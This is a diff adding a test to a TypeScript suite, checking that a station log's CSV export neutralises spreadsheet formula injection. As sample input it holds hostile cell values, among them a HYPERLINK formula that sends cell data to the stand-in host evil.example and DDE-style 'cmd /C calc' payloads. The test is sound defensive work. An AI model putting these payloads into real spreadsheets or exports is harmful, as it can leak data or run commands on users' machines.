@@ -119,6 +119,50 @@ describe('StationLog', () => {
     log.close();
   });
 
+  it('spreadsheet formula injection: no text cell of the CSV export starts a formula', async () => {
+    const { log } = freshLog();
+    const q = new JobQueue();
+    log.attach(q);
+    // Typed or reported values a spreadsheet would run: = + - @, and tab or CR in front of one.
+    const hostile = {
+      target: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+      operator: '+cmd|" /C calc"!A0',
+      gatewayCode: '-2+3',
+      message: '@SUM(1+1)*cmd|" /C calc"!A0',
+      where: '\t=1+1',
+      server: '\r=1+1',
+    };
+    const id = q.submit({
+      kind: 'esp32',
+      target: hostile.target,
+      steps: [{ name: 'probe' }],
+      initial: { operator: hostile.operator, serverUrl: hostile.server },
+      run: async (ctx) => {
+        await ctx.step('probe', async () => {
+          ctx.update({ mac: 'aa:bb:cc:00:00:09', gatewayCode: hostile.gatewayCode });
+          throw new JobFailure('INTERNAL', hostile.message, { where: hostile.where });
+        });
+      },
+    });
+    await q.wait(id);
+    const csv = log.exportCsv();
+    const [row] = parse(csv, { columns: true }) as Array<Record<string, string>>;
+    // Each value is kept, shown as text: one leading apostrophe, nothing else changed.
+    expect(row).toMatchObject({
+      port_or_host: `'${hostile.target}`,
+      operator: `'${hostile.operator}`,
+      gateway_code: `'${hostile.gatewayCode}`,
+      error_message: `'${hostile.message}`,
+      server: `'${hostile.server}`,
+      mac: 'aa:bb:cc:00:00:09',
+      result: 'failed',
+    });
+    for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // The stored record keeps the real values; only the export is made safe.
+    expect(log.get(id)).toMatchObject({ target: hostile.target, operator: hostile.operator, gatewayCode: hostile.gatewayCode });
+    log.close();
+  });
+
   it('applies migrations once, keeps data across reopen, and refuses a newer schema', () => {
     const { log, file } = freshLog();
     log.close();
